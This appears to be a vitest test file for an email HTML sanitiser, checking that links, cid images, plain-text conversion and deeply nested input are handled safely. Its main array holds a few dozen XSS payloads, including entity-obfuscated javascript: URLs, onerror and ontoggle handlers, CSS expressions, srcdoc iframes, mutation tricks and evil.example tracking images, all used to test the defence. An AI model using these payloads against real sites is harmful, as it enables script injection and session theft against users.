import { readFileSync } from 'node:fs';
import path from 'node:path';
import type { AnyNode } from 'domhandler';
import { DomUtils, parseDocument } from 'htmlparser2';
import { describe, expect, it } from 'vitest';
import { parseMail } from '../../shared/mail/parseMail.js';
import { htmlTooDeep, htmlToText, textToHtml, toSafeHtml } from '../../shared/mail/safeHtml.js';
import { cpuMs } from '../support/cpuTime.js';
import { glpiCorpus } from '../support/fixtures.js';

const corpus = glpiCorpus;
const limits = {
  maxMessageBytes: 40_000_000,
  maxImageBytes: 10_000_000,
  maxImagesBytesPerMessage: 30_000_000,
};

const IMAGE_BASE = 'https://files.example.test/images/';
const knownImages: Record<string, string> = {
  'logo@example': 'abc123',
  'image001.png@01D90577.61DCAEC0': 'red-dot',
};
const imageUrlForContentId = (cid: string) => (knownImages[cid] ? `${IMAGE_BASE}${knownImages[cid]}` : null);

function safe(html: string, allowExternalImages = false): string {
  return toSafeHtml({ html, text: '', allowExternalImages, imageUrlForContentId });
}

const FORBIDDEN_ELEMENTS = new Set([
  ...[
    'script',
    'iframe',
    'object',
    'embed',
    'form',
    'input',
    'button',
    'svg',
    'math',
    'base',
    'meta',
    'link',
  ],
  ...['style', 'textarea', 'select', 'option', 'frame', 'frameset', 'applet', 'template', 'noscript', 'xmp'],
  ...['isindex', 'video', 'audio', 'source', 'param', 'portal', 'title', 'head', 'body', 'html'],
]);
const URL_ATTRIBUTES = new Set([
  ...[
    'href',
    'src',
    'action',
    'formaction',
    'xlink:href',
    'background',
    'poster',
    'data',
    'codebase',
    'cite',
  ],
  ...['dynsrc', 'lowsrc', 'longdesc', 'usemap', 'ping', 'manifest'],
]);

/** Every executable vector found in the HTML, as a browser would read it (entities decoded). */
function vectors(html: string): string[] {
  const found: string[] = [];
  if (/<\s*script/i.test(html)) found.push('literal <script');
  const walk = (nodes: AnyNode[]) => {
    for (const node of nodes) {
      if (!DomUtils.isTag(node)) continue;
      const name = node.name.toLowerCase();
      if (FORBIDDEN_ELEMENTS.has(name)) found.push(`element <${name}>`);
      for (const [attribute, value] of Object.entries(node.attribs)) {
        const key = attribute.toLowerCase();
        if (key.startsWith('on')) found.push(`handler ${key}`);
        if (key === 'srcset' || key === 'srcdoc' || key === 'http-equiv') found.push(`attribute ${key}`);
        const url = value.replace(/[\p{Cc}\s]+/gu, '').toLowerCase();
        if (URL_ATTRIBUTES.has(key) && !/^(?:https?:\/\/|mailto:)/.test(url)) found.push(`${key}=${value}`);
        if (key === 'src' && !url.startsWith(IMAGE_BASE)) found.push(`foreign image ${value}`);
        if (
          key === 'style' &&
          /expression|url\s*\(|javascript|behavior|binding|@import|position/i.test(value)
        ) {
          found.push(`style ${value}`);
        }
      }
      walk(node.children);
    }
  };
  walk(parseDocument(html, { decodeEntities: true }).children);
  return found;
}

const XSS_PAYLOADS: string[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="jav&NewLine;ascript&colon;alert(1)">x</a>',
  '<a href="  &#14;javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<img src="data:image/png;base64,iVBORw0KGgo=">',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><input type="submit" value="go"></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<div style="width: expression(alert(1))">x</div>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="background-image: url(&quot;https://evil.example/t.gif&quot;)">x</div>',
  '<div style="behavior: url(x.htc)">x</div>',
  '<div style="-moz-binding:url(https://evil.example/x.xml#xss)">x</div>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<img srcset="javascript:alert(1) 1x, https://evil.example/x.png 2x">',
  '<link rel="import" href="https://evil.example/x.html">',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<style>@import "javascript:alert(1)";</style>',
  '<body onload=alert(1)>text</body>',
  '<details open ontoggle=alert(1)>x</details>',
  '<img src="cid:unknown@example" onerror=alert(1)>',
  '<scr<script>ipt>alert(1)</script>',
  '<<script>script>alert(1)<</script>/script>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<a href="//evil.example/">protocol relative</a>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<template><img src=x onerror=alert(1)></template>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>',
  '<div onmouseover="alert(1)">hover</div>',
  '<isindex action="javascript:alert(1)" type="image">',
  '<video><source onerror="alert(1)"></video>',
  '<a href="javascript:alert(1)" style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</a>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<p title="&lt;/p&gt;&lt;img src=x onerror=alert(1)&gt;">mutation</p>',
  '<a href="mailto:x@example.com" onclick="alert(1)">mail</a>',
  '<img src="https://evil.example/track.gif">',
  '<div style="color: red; background-color: #fff; font-weight: bold; position: absolute">styled</div>',
  '<a href="https://ok.example/" target="_self" rel="opener">ok</a>',
];

describe('toSafeHtml: XSS payloads', () => {
  it.each(XSS_PAYLOADS)('%s', (payload) => {
    const output = safe(payload);
    expect(vectors(output)).toEqual([]);
  });

  it('keeps the harmless parts of the payloads', () => {
    expect(
      safe('<p style="margin:0cm 0cm 0cm 36.0pt;border:1px solid #ccc;text-decoration: underline">m</p>'),
    ).toBe('<p style="margin:0cm 0cm 0cm 36.0pt;border:1px solid #ccc;text-decoration:underline">m</p>');
    expect(safe('<div style="color: red; position: absolute">styled</div>')).toBe(
      '<div style="color:red">styled</div>',
    );
    expect(safe('<a href="mailto:x@example.com" onclick="alert(1)">mail</a>')).toBe(
      '<a href="mailto:x@example.com" rel="noopener noreferrer nofollow" target="_blank">mail</a>',
    );
    expect(safe('<p title="&lt;/p&gt;&lt;img src=x onerror=alert(1)&gt;">mutation</p>')).toContain(
      '&lt;/p&gt;&lt;img',
    );
  });

  it('checks the checker: it does find the vectors in unsanitised HTML', () => {
    expect(vectors('<a href="&#106;avascript:alert(1)">x</a>')).not.toEqual([]);
    expect(vectors('<img src=x onerror=alert(1)>')).not.toEqual([]);
    expect(vectors('<div style="width: expression(alert(1))">x</div>')).not.toEqual([]);
  });
});

describe('toSafeHtml: links and images', () => {
  it('opens links in a new tab without referrer and only for http(s) and mailto', () => {
    const output = safe('<a href="https://example.com/a?b=1&amp;c=2">site</a> <a href="#top">anchor</a>');
    expect(output).toContain(
      '<a href="https://example.com/a?b=1&amp;c=2" rel="noopener noreferrer nofollow" target="_blank">site</a>',
    );
    expect(output).toContain('<a rel="noopener noreferrer nofollow" target="_blank">anchor</a>');
  });

  it('rewrites known cid: images and removes unknown ones', () => {
    const output = safe(
      '<p>Logo <img src="cid:logo@example" alt="logo" width="10"> <img src="cid:missing@example"></p>',
    );
    expect(output).toBe(`<p>Logo <img alt="logo" width="10" src="${IMAGE_BASE}abc123" /> </p>`);
  });

  it('decodes percent-encoded Content-IDs and accepts angle brackets', () => {
    expect(safe('<img src="cid:logo%40example">')).toContain(`${IMAGE_BASE}abc123`);
    expect(safe('<img src="cid:<logo@example>">')).toContain(`${IMAGE_BASE}abc123`);
  });

  it('loads external images only when allowed', () => {
    const html = '<img src="https://cdn.example.com/logo.png" alt="x">';
    expect(safe(html, false)).toBe('');
    expect(safe(html, true)).toBe('<img alt="x" src="https://cdn.example.com/logo.png" />');
    expect(safe('<img src="http://cdn.example.com/logo.png">', true)).toContain(
      'http://cdn.example.com/logo.png',
    );
  });

  it('never allows data: images, even when external images are allowed', () => {
    expect(safe('<img src="data:image/png;base64,iVBORw0KGgo=">', true)).toBe('');
  });
});

describe('toSafeHtml: plain text', () => {
  it('escapes text and builds paragraphs and line breaks', () => {
    const output = toSafeHtml({
      html: null,
      text: 'Hello <b>world</b> & "friends"\nsecond line\n\nnew paragraph',
      allowExternalImages: false,
      imageUrlForContentId,
    });
    expect(output).toBe(
      '<p>Hello &lt;b&gt;world&lt;/b&gt; &amp; "friends"<br />\nsecond line</p>\n<p>new paragraph</p>',
    );
  });

  it('links URLs and addresses safely, never javascript:', () => {
    const output = toSafeHtml({
      html: '  ',
      text: 'See https://example.com/path?a=1&b=2. Mail me at john.doe@example.com or javascript:alert(1) or (www.example.org)',
      allowExternalImages: false,
      imageUrlForContentId,
    });
    expect(output).toContain(
      '<a href="https://example.com/path?a=1&amp;b=2" rel="noopener noreferrer nofollow" target="_blank">https://example.com/path?a=1&amp;b=2</a>.',
    );
    expect(output).toContain('<a href="mailto:john.doe@example.com"');
    expect(output).toContain('<a href="https://www.example.org"');
    expect(output).toContain('javascript:alert(1)');
    expect(vectors(output)).toEqual([]);
  });

  it('textToHtml keeps balanced brackets inside a URL', () => {
    expect(textToHtml('https://en.wikipedia.org/wiki/Mail_(disambiguation)')).toContain(
      'href="https://en.wikipedia.org/wiki/Mail_(disambiguation)"',
    );
  });
});

describe('toSafeHtml: real mail', () => {
  const parse = (file: string) => parseMail(readFileSync(path.join(corpus, file)), limits);

  it('36: Microsoft Office markup and conditional comments are removed cleanly', async () => {
    const mail = await parse('36-microsoft-specific-code.eml');
    const output = safe(mail.html ?? '');
    expect(output).not.toMatch(/<o:p|<\/o:p|<!--|\[if|endif|mso-|<xml|<v:/i);
    expect(output).toContain('First Line');
    expect(output).toContain('Next next tab hypen');
    expect(vectors(output)).toEqual([]);
  });

  it('33: style and script elements are removed with their content, the text stays', async () => {
    const mail = await parse('33-html-with-unwanted-tags-inside-body.eml');
    const output = safe(mail.html ?? '');
    expect(output).not.toContain('text-decoration');
    expect(output).not.toContain('font-size: 12px');
    expect(htmlToText(output)).toBe(
      'This HTML message constains style, scripts and meta tags.\n\nIt also contains text,\n\nbetween\n\nthese unwanted\n\ntags.',
    );
  });

  it('39: a link typed in angle brackets stays visible', async () => {
    const mail = await parse('39-link-in-content.eml');
    expect(safe(mail.html ?? '')).toContain('&lt;https://glpi-project.org&gt;');
  });

  it('37: the inline image referenced by cid: is shown from storage', async () => {
    const mail = await parse('37-image-with-octet-stream-type.eml');
    expect(safe(mail.html ?? '')).toContain(`<img src="${IMAGE_BASE}red-dot" />`);
  });

  it('every HTML mail of the corpus sanitises to something without vectors', async () => {
    for (const file of [
      '00-unicode-smileys.eml',
      '05-empty-from.eml',
      '10-missing-content-transfer-encoding.eml',
    ]) {
      const mail = await parse(file);
      expect(vectors(safe(mail.html ?? ''))).toEqual([]);
    }
  });
});

describe('hostile input stays cheap', () => {
  it('markup nested 100 000 levels deep is flattened to text, not parsed', () => {
    const html = `${'<div>'.repeat(100_000)}<script>alert(1)</script>deep text`;
    expect(htmlTooDeep(html)).toBe(true);
    expect(htmlTooDeep(`${'<p>'.repeat(100_000)}${'<div>x</div>'.repeat(1000)}`)).toBe(false);
    let output = '';
    expect(cpuMs(() => (output = safe(html)))).toBeLessThan(2000);
    expect(vectors(output)).toEqual([]);
    expect(output).toContain('deep text');
    expect(htmlToText(html)).toBe('alert(1) deep text');
  });

  it('long words, unclosed tags and bracket runs are linear', () => {
    expect(cpuMs(() => textToHtml('a@'.repeat(1_000_000)))).toBeLessThan(2000);
    expect(cpuMs(() => textToHtml(`${'('.repeat(2000)} `.repeat(1000)))).toBeLessThan(2000);
    expect(cpuMs(() => safe('<a '.repeat(500_000)))).toBeLessThan(3000);
    expect(cpuMs(() => htmlToText('<https:'.repeat(300_000)))).toBeLessThan(3000);
    const digits = '1'.repeat(50_000);
    expect(
      cpuMs(() => safe(`<p style="margin:${digits}x;padding:${digits} ${digits}y;border:${digits}">a</p>`)),
    ).toBeLessThan(2000);
  });
});
